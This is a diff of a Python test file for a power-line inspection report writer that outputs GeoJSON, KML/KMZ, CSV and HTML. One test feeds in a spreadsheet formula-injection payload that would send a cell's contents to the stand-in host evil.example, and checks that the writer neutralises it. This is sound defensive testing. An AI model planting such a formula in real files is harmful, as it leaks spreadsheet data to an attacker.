@@ -1,4 +1,4 @@
-"""GeoJSON (RFC 7946), KML/KMZ and CSV writers."""
+"""The report formats (linepatrol.report): GeoJSON (RFC 7946), KML/KMZ, CSV, HTML."""
 
 from __future__ import annotations
 
@@ -9,8 +9,22 @@ import zipfile
 
 import defusedxml.ElementTree as ET
 
-from linepatrol.geo import Defect, Evidence, Placement, to_csv, to_geojson, to_kml
-from linepatrol.geo.export import CSV_COLUMNS, SEVERITY_COLOURS
+from linepatrol.geo import Defect, Evidence, Placement
+from linepatrol.report import (
+    COLUMNS,
+    Format,
+    Report,
+    ReportHeader,
+    file_name,
+    from_geo,
+    neutralise,
+    render,
+    to_csv,
+    to_geojson,
+    to_html,
+    to_kml,
+)
+from linepatrol.report.kml import SEVERITY_COLOURS
 
 KML_NS = {"k": "http://www.opengis.net/kml/2.2"}
 
@@ -21,41 +35,46 @@ def evidence(image: str, conf: float, lat: float | None = 30.5) -> Evidence:
     return Evidence(image, (10.0, 20.0, 30.0, 40.0), conf, (20.0, 30.0), placement)
 
 
-def defects() -> list[Defect]:
+def report(line: str = "L1", crops: dict[str, bytes] | None = None) -> Report:
     nest = Defect("D0001", "bird_nest", "line_defect", "鸟巢", "Bird nest", "serious", 0.9,
-                  30.5, 114.25, 85.0, "egm96", None, "tower", None, "L1", "T2", None, None,
-                  [evidence("b.jpg", 0.9), evidence("a.jpg", 0.7)])
+                  30.500000012, 114.25, 85.0, "egm96", None, "tower", None, line, "T2", None,
+                  None, [evidence("b.jpg", 0.9), evidence("a.jpg", 0.7)])
     crane = Defect("D0002", "truck_crane", "hazard", "吊车", "Truck crane", "critical", 0.8,
-                   30.5001, 114.2490, 50.0, "egm96", None, "ground", 1.5, "L1", "T1", "T1-T2",
+                   30.5001, 114.2490, 50.0, "egm96", None, "ground", 1.5, line, "T1", "T1-T2",
                    8.04, [evidence("a.jpg", 0.8)])
     lost = Defect("D0003", "foreign_object", "line_defect", "导线异物",
                   "Foreign object on conductor", "critical", 0.6, None, None, None, None,
                   "no GPS position", "none", None, None, None, None, None,
                   [evidence("c.jpg", 0.6, lat=None)])
-    return [nest, crane, lost]
+    return Report(ReportHeader("LinePatrol test"),
+                  tuple(from_geo(d) for d in (nest, crane, lost)), crops or {})
 
 
 def test_geojson_is_rfc7946():
-    doc = json.loads(json.dumps(to_geojson(defects()), ensure_ascii=False))
+    doc = json.loads(json.dumps(to_geojson(report()), ensure_ascii=False))
     assert doc["type"] == "FeatureCollection" and "crs" not in doc
     assert len(doc["features"]) == 3
     nest, crane, lost = doc["features"]
     for f in doc["features"]:
         assert f["type"] == "Feature" and set(f) == {"type", "id", "geometry", "properties"}
-    assert nest["geometry"] == {"type": "Point", "coordinates": [114.25, 30.5]}  # lon, lat
+        assert list(f["properties"]) == [*COLUMNS, "evidence"]
+    # lon, lat; 7 decimals (about a centimetre); altitude in the properties, not the position
+    assert nest["geometry"] == {"type": "Point", "coordinates": [114.25, 30.5]}
     p = nest["properties"]
-    assert (p["class"], p["name_zh"], p["severity"], p["severity_zh"]) == (
-        "bird_nest", "鸟巢", "serious", "严重")
-    assert (p["line"], p["tower"], p["span"], p["confidence"]) == ("L1", "T2", None, 0.9)
-    assert [e["image"] for e in p["evidence"]] == ["b.jpg", "a.jpg"]
+    assert (p["class"], p["name_zh"], p["name_en"], p["severity"], p["severity_zh"]) == (
+        "bird_nest", "鸟巢", "Bird nest", "serious", "严重")
+    assert (p["line"], p["tower"], p["span"], p["confidence"], p["alt_m"]) == (
+        "L1", "T2", None, 0.9, 85.0)
+    assert [e["photo"] for e in p["evidence"]] == ["b.jpg", "a.jpg"]
     assert p["evidence"][0]["xyxy"] == [10.0, 20.0, 30.0, 40.0] and p["photos"] == 2
+    assert (p["photo"], p["photo_files"]) == ("b.jpg", "b.jpg;a.jpg")
     assert crane["properties"]["distance_to_line_m"] == 8.0
     assert crane["properties"]["span"] == "T1-T2"
     assert lost["geometry"] is None and lost["properties"]["geo_reason"] == "no GPS position"
 
 
-def test_kml_placemarks_styled_by_severity():
-    root = ET.fromstring(to_kml(defects()))
+def test_kml_placemarks_styled_by_severity_with_extended_data():
+    root = ET.fromstring(to_kml(report()))
     placemarks = root.findall(".//k:Placemark", KML_NS)
     assert len(placemarks) == 2  # the unplaced defect has no position to show
     names = [p.findtext("k:name", namespaces=KML_NS) for p in placemarks]
@@ -66,20 +85,50 @@ def test_kml_placemarks_styled_by_severity():
     assert {SEVERITY_COLOURS["critical"], SEVERITY_COLOURS["serious"]} <= colours
     folders = [f.findtext("k:name", namespaces=KML_NS) for f in root.findall(".//k:Folder", KML_NS)]
     assert sorted(folders) == ["严重 serious", "危急 critical"]
+    data = {d.get("name"): d.findtext("k:value", namespaces=KML_NS)
+            for d in placemarks[0].findall(".//k:Data", KML_NS)}
+    assert list(data) == list(COLUMNS)
+    assert data["name_en"] == "Bird nest" and data["photo"] == "b.jpg"
 
 
 def test_kmz_is_zipped_kml():
-    kmz = to_kml(defects(), kmz=True)
+    kmz = to_kml(report(), kmz=True)
     with zipfile.ZipFile(io.BytesIO(kmz)) as zf:
         assert zf.namelist() == ["doc.kml"]
         root = ET.fromstring(zf.read("doc.kml"))
     assert len(root.findall(".//k:Placemark", KML_NS)) == 2
 
 
-def test_csv_round_trip():
-    rows = list(csv.DictReader(io.StringIO(to_csv(defects()))))
-    assert len(rows) == 3 and list(rows[0]) == list(CSV_COLUMNS)
-    assert rows[0]["id"] == "D0001" and rows[0]["best_image"] == "b.jpg"
-    assert rows[0]["images"] == "b.jpg;a.jpg" and rows[0]["best_xyxy"] == "10.0 20.0 30.0 40.0"
+def test_csv_has_a_bom_the_columns_and_rounded_values():
+    data = render(Format.CSV, report())
+    assert data.startswith(b"\xef\xbb\xbfid,class,name_en,name_zh,")
+    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
+    assert len(rows) == 3 and list(rows[0]) == list(COLUMNS)
+    assert rows[0]["id"] == "D0001" and rows[0]["photo"] == "b.jpg"
+    assert rows[0]["lat"] == "30.5" and rows[0]["name_zh"] == "鸟巢"  # 30.500000012 rounded
+    assert rows[0]["photo_files"] == "b.jpg;a.jpg" and rows[0]["xyxy"] == "10.0 20.0 30.0 40.0"
     assert rows[1]["distance_to_line_m"] == "8.0" and rows[1]["severity_zh"] == "危急"
     assert rows[2]["lat"] == "" and rows[2]["geo_reason"] == "no GPS position"
+
+
+def test_csv_neutralises_formulas_owasp():
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    rows = list(csv.reader(io.StringIO(to_csv(report(line=evil)))))
+    line = COLUMNS.index("line")
+    assert [r[line] for r in rows[1:3]] == ["'" + evil] * 2
+    for cell in ("+1", "-1+2", "@SUM(A1)", "\tx", "\rx"):
+        assert neutralise(cell) == "'" + cell
+    assert neutralise(-3.5) == -3.5 and neutralise("a=b") == "a=b" and neutralise(None) == ""
+
+
+def test_html_is_one_file_with_crops_inside_and_text_escaped():
+    page = to_html(report(line="<b>L1</b>", crops={"D0001": b"\xff\xd8jpeg"}))
+    assert page.count('src="data:image/jpeg;base64,/9hqcGVn"') == 1
+    assert "<b>L1</b>" not in page and "&lt;b&gt;L1&lt;/b&gt;" in page
+    assert "http://" not in page and "https://" not in page
+    assert "defects 3 (2 critical, 1 serious)" in page
+
+
+def test_file_names():
+    assert file_name("report", Format.KMZ) == "report.kmz"
+    assert file_name("flight-7", Format.CSV) == "flight-7.csv"
